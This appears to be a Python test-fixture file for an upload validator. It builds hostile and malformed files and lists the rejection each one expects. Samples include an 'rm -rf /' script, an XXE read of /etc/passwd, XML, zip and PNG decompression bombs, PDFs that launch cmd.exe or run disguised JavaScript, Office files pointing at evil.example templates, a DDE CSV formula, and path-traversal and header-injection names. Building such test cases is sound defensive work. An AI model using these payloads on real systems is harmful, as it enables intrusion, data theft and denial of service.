"""
Files that mean harm, lie or are merely odd, made by code: a name, the bytes, and what becomes of them.

That is the code of the error with which they are turned away at the door, the reason of their refusal by the check, or
``clean`` where there is nothing wrong with them.
"""

import gzip
import io
import struct
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass

from pypdf.generic import ArrayObject, DictionaryObject, NameObject, TextStringObject

from tests.core.documents.good import OFFICE, RELATIONS, RELS, image, office, pdf, workbook, zipped

EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-" + b"ANTIVIRUS-TEST-FILE!$H+H*"
TYPE, NAMED, EMPTY, LARGE = (
    "document_type_not_taken",
    "document_not_as_named",
    "document_empty",
    "document_too_large",
)
MZ = b"MZ\x90\x00\x03\x00\x00\x00" + bytes(200)
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'
HTML = b"<!DOCTYPE html><script>alert(1)</script>"
COMPOUND = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
BOMB = '<?xml version="1.0"?><!DOCTYPE b [<!ENTITY a "ha">{}]><b>&z;</b>'.format(
    "".join(f'<!ENTITY {chr(98 + i)} "{f"&{chr(97 + i)};" * 10}">' for i in range(24)) + '<!ENTITY z "&y;">'
)
XXE = '<?xml version="1.0"?><!DOCTYPE b [<!ENTITY x SYSTEM "file:///etc/passwd">]><b>&x;</b>'
ANY = frozenset({"pdf", "docx", "xlsx", "pptx", "png", "jpg", "csv", "txt", "zip"})


@dataclass(frozen=True)
class Case:
    story: str
    name: str
    content: bytes | Callable[[], bytes]
    """What is large is made when it is needed."""
    becomes: str
    """Alternatives stand between bars."""


def relation(kind, target, mode="External"):
    one = f'<Relationship Id="r9" Type="{RELATIONS}/{kind}" Target="{target}" TargetMode="{mode}"/>'
    return {"word/_rels/document.xml.rels": RELS.format(one)}


def typed(content_type, media="docx"):
    """An office file whose main part says that it is something else."""
    content = io.BytesIO(office(media))
    with zipfile.ZipFile(content) as archive:
        parts = {one: archive.read(one) for one in archive.namelist()}
    declared = parts["[Content_Types].xml"].decode()
    for kind in ("wordprocessingml.document", "spreadsheetml.sheet", "presentationml.presentation"):
        declared = declared.replace(f"{OFFICE}{kind}.main+xml", content_type)
    return zipped(parts | {"[Content_Types].xml": declared})


def linked(target="/etc/passwd"):
    """A member that is a symbolic link."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("notes.txt", "words")
        link = zipfile.ZipInfo("link.txt")
        link.external_attr = 0o120777 << 16
        archive.writestr(link, target)
    return buffer.getvalue()


def lying(content, size=10):
    """The sizes that the list of members gives are not those of the members."""
    changed, at = bytearray(content), 0
    while (at := content.find(b"PK\x01\x02", at)) >= 0:
        changed[at + 24 : at + 28] = struct.pack("<L", size)
        at += 4
    return bytes(changed)


def twice(name="word/document.xml"):
    buffer = io.BytesIO(office())
    with zipfile.ZipFile(buffer, "a") as archive:
        archive.writestr(name.upper(), "<other/>")
    return buffer.getvalue()


def encrypted_zip():
    """The flag of encryption set in both headers."""
    changed = bytearray(zipped({"notes.txt": "words"}))
    changed[6] |= 1
    changed[changed.find(b"PK\x01\x02") + 8] |= 1
    return bytes(changed)


def compound(stream=""):
    return COMPOUND + bytes(1016) + stream.encode("utf-16-le") + bytes(2000)


def with_action(kind):
    def changed(writer):
        action = {NameObject("/S"): NameObject(kind), NameObject("/F"): TextStringObject("cmd.exe")}
        writer._root_object[NameObject("/OpenAction")] = DictionaryObject(action)

    return pdf(changed)


def launched_from_afar():
    """The word that says what the action does is an object of its own."""

    def changed(writer):
        word = writer._add_object(NameObject("/Launch"))
        action = DictionaryObject({NameObject("/S"): word, NameObject("/F"): TextStringObject("cmd.exe")})
        writer._root_object[NameObject("/OpenAction")] = action

    return pdf(changed)


def on_page(key, value):
    def changed(writer):
        note = DictionaryObject({NameObject("/Type"): NameObject("/Annot"), NameObject(key): value})
        writer.pages[0][NameObject("/Annots")] = ArrayObject([writer._add_object(note)])

    return pdf(changed)


def in_object_stream():
    """The script stands in a compressed stream, where a search for words finds nothing."""
    held = b"1 0 << /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >>"
    header, body = b"1 0 ", held[4:]
    packed = zlib.compress(header + body)
    out = b"%PDF-1.5\n"
    places = {}
    places[2] = len(out)
    out += b"2 0 obj << /Type /Pages /Kids [3 0 R] /Count 1 >> endobj\n"
    places[3] = len(out)
    out += b"3 0 obj << /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] >> endobj\n"
    places[4] = len(out)
    out += b"4 0 obj << /Type /ObjStm /N 1 /First 4 /Length %d /Filter /FlateDecode >> stream\n" % len(packed)
    out += packed + b"\nendstream endobj\n"
    table = len(out)
    rows = [(0, 0, 65535), (2, 4, 0), (1, places[2], 0), (1, places[3], 0), (1, places[4], 0), (1, table, 0)]
    content = b"".join(struct.pack(">BHH", *row) for row in rows)
    out += b"5 0 obj << /Type /XRef /Size 6 /W [1 2 2] /Root 1 0 R /Length %d >> stream\n" % len(content)
    return out + content + b"\nendstream endobj\nstartxref\n%d\n%%%%EOF\n" % table


def hidden_name():
    """The word in hexadecimal signs, which every reader understands."""
    return pdf(
        lambda writer: writer._root_object.update(
            {NameObject("/OpenAction"): DictionaryObject({NameObject("/S"): NameObject("/JavaScript")})}
        )
    ).replace(b"/JavaScript", b"/J#61v#61Script")


def with_password(algorithm="RC4-128"):
    return pdf(lambda writer: writer.encrypt("secret", algorithm=algorithm))


def deep_arrays(depth):
    """Sound, and deeper than any program writes."""

    def changed(writer):
        held = ArrayObject()
        for _level in range(depth):
            held = ArrayObject([held])
        writer._root_object[NameObject("/X")] = held

    return pdf(changed)


def nested_arrays(depth=5000):
    return (
        b"%PDF-1.4\n1 0 obj << /Type /Catalog /X "
        + b"[" * depth
        + b"]" * depth
        + b" >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF"
    )


def flood(width, height):
    """A picture of one colour, a few kilobytes that become gigabytes."""

    def chunk(kind, content):
        return struct.pack(">L", len(content)) + kind + content + struct.pack(">L", zlib.crc32(kind + content))

    head = struct.pack(">LLBBBBB", width, height, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", zlib.compress(bytes(1000))) + chunk(b"IEND", b"")
    )


def text_chunk_bomb():
    """Text beside the picture that becomes very long."""

    def chunk(kind, content):
        return struct.pack(">L", len(content)) + kind + content + struct.pack(">L", zlib.crc32(kind + content))

    good = image()
    return good[:33] + chunk(b"zTXt", b"Comment\x00\x00" + zlib.compress(bytes(80_000_000))) + good[33:]


def moving():
    """A picture of several frames."""
    from PIL import Image

    buffer = io.BytesIO()
    frames = [Image.new("RGB", (20, 20), colour) for colour in ("red", "blue")]
    frames[0].save(buffer, "PNG", save_all=True, append_images=frames[1:])
    return buffer.getvalue()


MANY = {f"n{number}.txt": "x" for number in range(1001)}
FLAT = {"a.txt": " " * 120_000_000}
DEEP = {"inner.zip": zipped({"inner.zip": zipped({"a.txt": bytes(5_000_000)})})}


CASES = [
    # Not what the name says, seen at the door.
    Case("a program named as a PDF", "report.pdf", MZ, NAMED),
    Case("a program", "setup.exe", MZ, TYPE),
    Case("a page for a browser named as a PDF", "report.pdf", HTML, NAMED),
    Case("a page for a browser named as text", "notes.txt", HTML, NAMED),
    Case("a page for a browser in capitals behind spaces", "notes.txt", b"\n\n  <HTML><body onload=alert(1)>", NAMED),
    Case("a page for a browser behind a mark of UTF-8", "notes.csv", b"\xef\xbb\xbf" + HTML, NAMED),
    Case("a page for a browser", "page.html", HTML, TYPE),
    Case("a page with the ending of XML", "page.xhtml", HTML, TYPE),
    Case("a drawing that runs scripts", "logo.svg", SVG, TYPE),
    Case("a drawing that runs scripts, named as a picture", "logo.png", SVG, NAMED),
    Case("a drawing that runs scripts, named as text", "logo.txt", SVG, NAMED),
    Case("a picture of another kind", "photo.jpg", image("PNG"), NAMED),
    Case("a picture of a kind that is not taken", "photo.gif", image("GIF"), TYPE),
    Case("a GIF named as a PNG", "photo.png", image("GIF"), NAMED),
    Case("a shell script named as text", "run.txt", b"#!/bin/sh\nrm -rf /\n", NAMED),
    Case("a program of Linux named as text", "run.txt", b"\x7fELF\x02\x01\x01" + bytes(60), NAMED),
    Case("a packed file named as a table", "table.csv", gzip.compress(b"a;b"), NAMED),
    Case("a zip where none is asked for", "files.zip", zipped({"a.txt": "x"}), TYPE),
    Case("two endings, the last of a program", "plan.pdf.exe", pdf(), TYPE),
    Case("an ending turned round by a mark of direction", "plan\u202efdp.exe", pdf(), TYPE),
    Case("a NUL that hides the ending", "plan.pdf\x00.exe", pdf(), TYPE),
    Case("a document with macros under its own ending", "plan.docm", office(), TYPE),
    Case("a table with macros under its own ending", "plan.xlsm", workbook(), TYPE),
    Case("an older document", "plan.doc", compound("WordDocument"), TYPE),
    Case("nothing at all", "plan.pdf", b"", EMPTY),
    Case("two hundred megabytes", "plan.pdf", lambda: b"%PDF-1.4\n" + bytes(200_000_000), LARGE),
    Case("a byte more than may be", "notes.txt", lambda: b"a" * 25_000_001, LARGE),
    Case("a name without an ending", "plan", pdf(), TYPE),
    Case("a name that is an ending", ".pdf", pdf(), TYPE),
    # PDF.
    Case("a PDF with a password", "plan.pdf", with_password(), "password"),
    Case("a PDF that runs a script when it opens", "plan.pdf", with_action("/JavaScript"), "script"),
    Case("a script in a compressed stream", "plan.pdf", in_object_stream(), "script"),
    Case("a script whose name is disguised", "plan.pdf", hidden_name(), "script"),
    Case("a PDF that starts a program", "plan.pdf", with_action("/Launch"), "script"),
    Case("a PDF that starts a program, told elsewhere", "plan.pdf", launched_from_afar(), "script"),
    Case("a PDF that sends a form", "plan.pdf", with_action("/SubmitForm"), "script"),
    Case("a PDF that opens another", "plan.pdf", with_action("/GoToR"), "script"),
    Case("a PDF that opens one inside", "plan.pdf", with_action("/GoToE"), "embedded"),
    Case("a PDF with a file inside", "plan.pdf", pdf(lambda w: w.add_attachment("x.exe", MZ)), "embedded"),
    Case("a PDF with a file at a note", "plan.pdf", on_page("/Subtype", NameObject("/FileAttachment")), "embedded"),
    Case("a PDF with a film that runs", "plan.pdf", on_page("/Subtype", NameObject("/RichMedia")), "script"),
    Case("a PDF and a zip in one", "plan.pdf", pdf() + zipped({"a.txt": "x"}), "not-as-named"),
    Case("a PDF with a page for a browser behind", "plan.pdf", pdf() + HTML * 100, "unreadable"),
    Case("half a PDF", "plan.pdf", pdf()[: len(pdf()) // 2], "unreadable"),
    Case("a PDF of a heading alone", "plan.pdf", b"%PDF-1.7\n", "unreadable"),
    Case("a heading, an end and noise", "plan.pdf", b"%PDF-1.7\n" + bytes(range(256)) * 20 + b"\n%%EOF", "unreadable"),
    Case("arrays in arrays, a hundred deep", "plan.pdf", deep_arrays(100), "too-complex"),
    Case("arrays in arrays, five thousand deep", "plan.pdf", nested_arrays(), "unreadable|too-complex"),
    # Office.
    Case("a document with a password", "plan.docx", compound("EncryptedPackage"), "password"),
    Case("a table with a password", "plan.xlsx", compound("EncryptedPackage"), "password"),
    Case("an older document under a new ending", "plan.docx", compound("WordDocument"), "not-as-named"),
    Case("a table named as a document", "plan.docx", workbook(), "not-as-named"),
    Case("a document named as a presentation", "plan.pptx", office("docx"), "not-as-named"),
    Case(
        "a document with macros, renamed",
        "plan.docx",
        typed("application/vnd.ms-word.document.macroEnabled.main+xml"),
        "macros",
    ),
    Case(
        "a table with macros, renamed",
        "plan.xlsx",
        typed("application/vnd.ms-excel.sheet.macroEnabled.main+xml", "xlsx"),
        "macros",
    ),
    Case("a document with a project of macros", "plan.docx", office(**{"word/vbaProject.bin": b"x"}), "macros"),
    Case("the same in capitals", "plan.docx", office(**{"word/VBAPROJECT.BIN": b"x"}), "macros"),
    Case(
        "a table with a sheet of old macros",
        "plan.xlsx",
        office("xlsx", **{"xl/macrosheets/sheet1.xml": "<a/>"}),
        "macros",
    ),
    Case("a document with a control", "plan.docx", office(**{"word/activeX/activeX1.xml": "<a/>"}), "macros"),
    Case("a document with an object", "plan.docx", office(**{"word/embeddings/oleObject1.bin": b"x"}), "embedded"),
    Case("a document with a program as picture", "plan.docx", office(**{"word/media/image1.png": MZ}), "embedded"),
    Case(
        "a document with an archive as picture",
        "plan.docx",
        office(**{"word/media/a.png": zipped({"a": "b"})}),
        "nested",
    ),
    Case(
        "a document with a template elsewhere",
        "plan.docx",
        office(**relation("attachedTemplate", "http://evil.example/t.dotm")),
        "external",
    ),
    Case(
        "a document with a picture elsewhere",
        "plan.docx",
        office(**relation("image", "http://evil.example/i.png")),
        "external",
    ),
    Case(
        "a document with a frame elsewhere",
        "plan.docx",
        office(**relation("frame", "http://evil.example/f")),
        "external",
    ),
    Case(
        "a document with an object elsewhere",
        "plan.docx",
        office(**relation("oleObject", "file://evil.example/share")),
        "external",
    ),
    Case(
        "a link to a file share", "plan.docx", office(**relation("hyperlink", "file://evil.example/share")), "external"
    ),
    Case(
        "a place elsewhere that says to be inside",
        "plan.docx",
        office(**relation("image", "http://evil.example/i", "Internal")),
        "external",
    ),
    Case(
        "a document that links to a page",
        "plan.docx",
        office(**relation("hyperlink", "https://fund.example/")),
        "clean",
    ),
    Case(
        "a billion of words by definitions",
        "plan.docx",
        office(**{"word/document.xml": BOMB}),
        "unsafe-names|unsafe-xml",
    ),
    Case("definitions in a table", "plan.xlsx", office("xlsx", **{"xl/sharedStrings.xml": BOMB}), "unsafe-xml"),
    Case("a definition that reads a file", "plan.docx", office(**{"word/settings.xml": XXE}), "unsafe-xml"),
    Case(
        "the same in UTF-16",
        "plan.docx",
        office(**{"word/settings.xml": XXE.replace("?><", ' encoding="UTF-16"?><', 1).encode("utf-16")}),
        "unsafe-xml",
    ),
    Case(
        "elements in elements without end", "plan.docx", office(**{"word/settings.xml": "<a>" * 100_000}), "unreadable"
    ),
    Case("broken markup", "plan.docx", office(**{"word/settings.xml": "<a><b></a>"}), "unreadable"),
    Case("a document that leads out of its folder", "plan.docx", office(**{"../../evil.xml": "<a/>"}), "unsafe-names"),
    Case("a part twice, in other letters", "plan.docx", twice(), "unsafe-names"),
    Case(
        "a document that unpacks to hundreds of megabytes",
        "plan.docx",
        lambda: office(**{"word/a.xml": bytes(120_000_000)}),
        "unpacked",
    ),
    Case(
        "a document of two thousand parts",
        "plan.docx",
        office(**{f"word/{n}.xml": "<a/>" for n in range(2000)}),
        "unpacked",
    ),
    Case("a zip named as a document", "plan.docx", zipped({"a.txt": "x"}), "not-as-named"),
    Case("half a document", "plan.docx", office()[:400], "unreadable"),
    Case("a document with a tail", "plan.docx", office() + HTML, "unreadable"),
    # Archives, where they are asked for.
    Case("an archive that is one zip bomb", "files.zip", lambda: zipped(FLAT), "unpacked"),
    Case(
        "a zip bomb whose list says that it is small", "files.zip", lambda: lying(zipped(FLAT)), "unpacked|unreadable"
    ),
    Case("archives in archives", "files.zip", zipped(DEEP), "nested"),
    Case("a packed archive in an archive", "files.zip", zipped({"a.txt": gzip.compress(b"x")}), "nested"),
    Case("a thousand and one files", "files.zip", zipped(MANY), "unpacked"),
    Case("an archive with a link", "files.zip", linked(), "unsafe-names"),
    Case("an archive that leads out of its folder", "files.zip", zipped({"../a.txt": "x"}), "unsafe-names"),
    Case("an archive that leads to the root", "files.zip", zipped({"/etc/a.txt": "x"}), "unsafe-names"),
    Case("an archive that leads to a drive", "files.zip", zipped({"C:\\a.txt": "x"}), "unsafe-names"),
    Case("an archive with a password", "files.zip", encrypted_zip(), "password"),
    Case("an archive with a program", "files.zip", zipped({"setup.exe": MZ}), "part-not-taken"),
    Case("an archive with a program named as text", "files.zip", zipped({"notes.txt": MZ}), "part-not-taken"),
    Case("an archive of ordinary files", "files.zip", zipped({"a/notes.txt": "x", "b.pdf": pdf()}), "clean"),
    # Pictures.
    Case("a picture cut short", "photo.jpg", image("JPEG", (400, 300))[:900], "unreadable"),
    Case("a PNG cut short", "photo.png", image()[:60], "unreadable"),
    Case("a picture of gigabytes", "photo.png", flood(60_000, 60_000), "pixels"),
    Case("a picture one row too high", "photo.png", flood(40_001, 1000), "pixels"),
    Case("a picture that says to have no width", "photo.png", flood(0, 100), "unreadable"),
    Case("a text in a picture that grows", "photo.png", text_chunk_bomb, "unreadable"),
    Case("a picture that moves", "photo.png", moving(), "not-as-named"),
    Case("a heading of a picture alone", "photo.jpg", b"\xff\xd8\xff\xe0" + bytes(50), "unreadable"),
    # Text.
    Case("a NUL in a table", "table.csv", b"a;b\n1;\x002\n", NAMED),
    Case("a NUL beyond the beginning of a table", "table.csv", b"a;b\n" * 4000 + b"\x00", "not-text"),
    Case("signs of control", "notes.txt", b"words \x1b[2J and \x07\n", "not-text"),
    Case("bytes that are no text", "notes.txt", b"caf\xe9 \x81\x8d", "not-text"),
    Case("half a letter of UTF-16", "notes.txt", b"\xff\xfea\x00b", "not-text"),
    Case("formulas in a table", "table.csv", b"=cmd|'/c calc'!A1;2\n", "clean"),
    # Viruses.
    Case("the test file of EICAR as text", "notes.txt", EICAR, "infected"),
    Case("the same in a PDF", "plan.pdf", pdf()[:-6] + EICAR + b"\n%%EOF\n", "infected"),
    # Names, of good files.
    Case("a name with a path", "../../etc/plan.pdf", pdf(), "clean"),
    Case("a name with a path of Windows", "C:\\Users\\a\\plan.pdf", pdf(), "clean"),
    Case("a name of a device", "CON.pdf", pdf(), "clean"),
    Case("a name that ends with full stops", "plan.pdf...", pdf(), "clean"),
    Case("a name with marks of direction", "\u202aplan\u2069\u200f.pdf", pdf(), "clean"),
    Case("a name with lines in it", "plan\r\nSet-Cookie: a=b.pdf", pdf(), "clean"),
    Case("a name with quotes and a semicolon", 'a";filename="x.exe.pdf', pdf(), "clean"),
    Case("a name of three hundred letters", "é" * 296 + ".pdf", pdf(), "clean"),
    Case("a name of letters in two pieces", "re\u0301sume\u0301.pdf", pdf(), "clean"),
    Case("a name that is markup", "<img src=x onerror=alert(1)>.pdf", pdf(), "clean"),
    Case("a name in another script", "отчёт 計画.pdf", pdf(), "clean"),
]
